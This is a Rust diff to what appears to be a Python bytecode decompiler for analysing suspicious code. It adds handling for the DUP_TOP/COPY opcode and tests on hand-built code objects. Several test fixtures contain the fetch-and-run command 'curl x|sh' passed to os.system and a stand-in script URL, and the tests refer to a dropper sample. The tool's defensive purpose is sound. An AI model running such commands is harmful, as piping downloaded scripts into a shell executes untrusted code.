@@ -156,6 +156,8 @@ enum Op {
     ExecStmt,
     /// Python 2 `print x`.
     PrintItem,
+    /// `DUP_TOP` (before 3.11) and `COPY n` (3.11+): Python 2's `exec code` duplicates `None`.
+    Copy,
     /// Anything else: the stack is no longer known.
     Other,
 }
@@ -185,6 +187,7 @@ fn op_of(dialect: Dialect, opcode: u8) -> Op {
     };
     match dialect {
         Dialect::Py2 | Dialect::Py30 => match opcode {
+            4 => Copy,
             9 => Nop,
             23 | 55 => BinaryAdd,
             71 if dialect == Dialect::Py2 => PrintItem,
@@ -198,6 +201,7 @@ fn op_of(dialect: Dialect, opcode: u8) -> Op {
             other => common(other),
         },
         Dialect::Py36 => match opcode {
+            4 => Copy,
             9 => Nop,
             23 | 55 => BinaryAdd,
             71 => LoadBuildClass,
@@ -217,6 +221,7 @@ fn op_of(dialect: Dialect, opcode: u8) -> Op {
         Dialect::Py311 | Dialect::Py312 => match opcode {
             0 | 2 | 9 | 135 | 136 | 149 | 151 | 166 => Nop,
             71 => LoadBuildClass,
+            120 => Copy,
             121 if dialect == Dialect::Py312 => ReturnConst,
             122 => BinaryOperator,
             137 => LoadDeref,
@@ -792,6 +797,26 @@ impl Body<'_> {
                 }
             }
             Op::LoadBuildClass => self.push(Item::BuildClass),
+            Op::Copy => {
+                let depth = if matches!(self.dialect, Dialect::Py311 | Dialect::Py312) {
+                    arg.max(1)
+                } else {
+                    1
+                };
+                let item = self
+                    .stack
+                    .len()
+                    .checked_sub(depth)
+                    .and_then(|at| self.stack.get(at))
+                    .cloned()
+                    .unwrap_or(Item::Unknown);
+                // A copied call is one call: only the original is written out.
+                let item = match item {
+                    Item::Call(text) => Item::Expr(text),
+                    other => other,
+                };
+                self.push(item);
+            }
             Op::BuildTuple | Op::BuildList => {
                 let items = self.pop_n(arg);
                 let parts: Vec<String> = items.iter().map(|i| self.text(i)).collect();
@@ -1229,5 +1254,193 @@ mod tests {
         // Statements keep their own line numbers.
         let line = text.lines().position(|l| l.starts_with("send(")).unwrap();
         assert_eq!(line + 1, 9, "{text}");
+    }
+
+    /// Marshal bytes of a code object, built by hand for layouts no local Python can write.
+    mod build {
+        use crate::marshal::Layout;
+
+        fn len(n: usize) -> [u8; 4] {
+            i32::try_from(n).unwrap().to_le_bytes()
+        }
+        pub fn text(s: &str) -> Vec<u8> {
+            let mut v = vec![b'u'];
+            v.extend(len(s.len()));
+            v.extend(s.as_bytes());
+            v
+        }
+        pub fn bytes(b: &[u8]) -> Vec<u8> {
+            let mut v = vec![b's'];
+            v.extend(len(b.len()));
+            v.extend(b);
+            v
+        }
+        pub fn int(i: i32) -> Vec<u8> {
+            let mut v = vec![b'i'];
+            v.extend(i.to_le_bytes());
+            v
+        }
+        pub fn none() -> Vec<u8> {
+            vec![b'N']
+        }
+        pub fn tuple(items: &[Vec<u8>]) -> Vec<u8> {
+            let mut v = vec![b'('];
+            v.extend(len(items.len()));
+            for item in items {
+                v.extend(item);
+            }
+            v
+        }
+        pub fn code(
+            layout: Layout,
+            bytecode: &[u8],
+            consts: &[Vec<u8>],
+            names: &[&str],
+        ) -> Vec<u8> {
+            // Python 2 names are byte strings.
+            let name = |n: &str| {
+                if layout == Layout::Py2 {
+                    bytes(n.as_bytes())
+                } else {
+                    text(n)
+                }
+            };
+            let counters = match layout {
+                Layout::Py2 => 4,
+                Layout::Py30 | Layout::Py311 => 5,
+                Layout::Py38 => 6,
+            };
+            let mut v = vec![b'c'];
+            for index in 0..counters {
+                let value: i32 = if index == counters - 1 { 0x40 } else { 0 };
+                v.extend(value.to_le_bytes());
+            }
+            v.extend(bytes(bytecode));
+            v.extend(tuple(consts));
+            v.extend(tuple(&names.iter().map(|n| name(n)).collect::<Vec<_>>()));
+            if layout == Layout::Py311 {
+                v.extend(tuple(&[]));
+                v.extend(bytes(&[]));
+            } else {
+                for _ in 0..3 {
+                    v.extend(tuple(&[]));
+                }
+            }
+            v.extend(name("<hand>"));
+            v.extend(name("<module>"));
+            if layout == Layout::Py311 {
+                v.extend(name("<module>"));
+            }
+            v.extend(1i32.to_le_bytes());
+            v.extend(bytes(&[]));
+            if layout == Layout::Py311 {
+                v.extend(bytes(&[]));
+            }
+            v
+        }
+    }
+
+    fn render_bytes(data: &[u8]) -> (String, Layout) {
+        let (code, layout) = read_code(data, Limits::default()).unwrap();
+        (render(&code, None, RenderLimits::default()), layout)
+    }
+
+    #[test]
+    fn python2_code_with_an_exec_statement() {
+        use build::*;
+        // import os; os.system('curl x|sh'); exec 'import os'
+        let bytecode = [
+            100, 0, 0, 100, 1, 0, 108, 0, 0, 90, 0, 0, 101, 0, 0, 106, 1, 0, 100, 2, 0, 131, 1, 0,
+            1, 100, 3, 0, 100, 1, 0, 4, 85, 100, 1, 0, 83,
+        ];
+        let consts = [int(-1), none(), bytes(b"curl x|sh"), bytes(b"import os")];
+        let data = code(Layout::Py2, &bytecode, &consts, &["os", "system"]);
+        let (text, layout) = render_bytes(&data);
+        assert_eq!(layout, Layout::Py2);
+        assert!(text.contains("import os"), "{text}");
+        assert!(text.contains("os.system(b'curl x|sh')"), "{text}");
+        assert!(text.contains("exec(b'import os')"), "{text}");
+    }
+
+    #[test]
+    fn python35_and_38_layouts() {
+        use build::*;
+        let consts = [int(0), none(), text("curl x|sh")];
+        // 3.5: three-byte instructions.
+        let old = [
+            100, 0, 0, 100, 1, 0, 108, 0, 0, 90, 0, 0, 101, 0, 0, 106, 1, 0, 100, 2, 0, 131, 1, 0,
+            1, 100, 1, 0, 83,
+        ];
+        let (text, layout) = render_bytes(&code(Layout::Py30, &old, &consts, &["os", "system"]));
+        assert_eq!(layout, Layout::Py30);
+        assert!(text.contains("os.system('curl x|sh')"), "{text}");
+        // 3.8: wordcode, LOAD_METHOD/CALL_METHOD.
+        let word = [
+            100, 0, 100, 1, 108, 0, 90, 0, 101, 0, 160, 1, 100, 2, 161, 1, 1, 0, 100, 1, 83, 0,
+        ];
+        let (text, layout) = render_bytes(&code(Layout::Py38, &word, &consts, &["os", "system"]));
+        assert_eq!(layout, Layout::Py38);
+        assert!(text.starts_with("import os"), "{text}");
+        assert!(text.contains("os.system('curl x|sh')"), "{text}");
+    }
+
+    #[test]
+    fn unknown_instruction_sets_still_show_names_and_strings() {
+        use build::*;
+        // RESUME is 149 from 3.13 on, whose opcodes are not modelled.
+        let data = code(
+            Layout::Py311,
+            &[149, 0, 1, 0],
+            &[text("https://x.invalid/a.sh")],
+            &["os", "system"],
+        );
+        let (text, _) = render_bytes(&data);
+        assert!(text.contains("# names used: os, system"), "{text}");
+        assert!(text.contains("'https://x.invalid/a.sh'"), "{text}");
+    }
+
+    #[test]
+    fn output_is_bounded() {
+        let data =
+            crate::decode::decode(crate::decode::Codec::Hex, PY311_DROPPER.as_bytes()).unwrap();
+        let (code, _) = read_code(&data, Limits::default()).unwrap();
+        let limits = RenderLimits {
+            max_bytes: 64,
+            ..RenderLimits::default()
+        };
+        assert!(render(&code, None, limits).len() <= 64 + 160);
+        let limits = RenderLimits {
+            max_depth: 0,
+            ..RenderLimits::default()
+        };
+        assert!(!render(&code, None, limits).contains("Popen"));
+    }
+
+    #[test]
+    fn literals_round_trip_as_python() {
+        assert_eq!(str_literal("a'b\\c\n\u{1}"), "'a\\'b\\\\c\\n\\U00000001'");
+        assert_eq!(bytes_literal(b"a'\x00\xff"), "b'a\\'\\x00\\xff'");
+        assert_eq!(identifier("<lambda>"), "_lambda_");
+        assert_eq!(identifier("1x"), "_1x");
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn arbitrary_bytes_never_panic(data in proptest::collection::vec(proptest::num::u8::ANY, 0..512)) {
+            if let Ok((code, _)) = read_code(&data, Limits::default()) {
+                let text = render(&code, None, RenderLimits { max_bytes: 1 << 12, ..RenderLimits::default() });
+                proptest::prop_assert!(text.len() <= (1 << 12) + 4096);
+            }
+            let _ = unmarshal_to_source(&data, true, 1 << 12);
+        }
+
+        #[test]
+        fn mutated_code_objects_never_panic(at in 0usize..2000, value in proptest::num::u8::ANY, cut in 0usize..2000) {
+            let mut data = crate::decode::decode(crate::decode::Codec::Hex, PY311_DROPPER.as_bytes()).unwrap();
+            let len = data.len();
+            data[at % len] = value;
+            data.truncate(len - cut % len);
+            let _ = unmarshal_to_source(&data, false, 1 << 16);
+        }
     }
 }
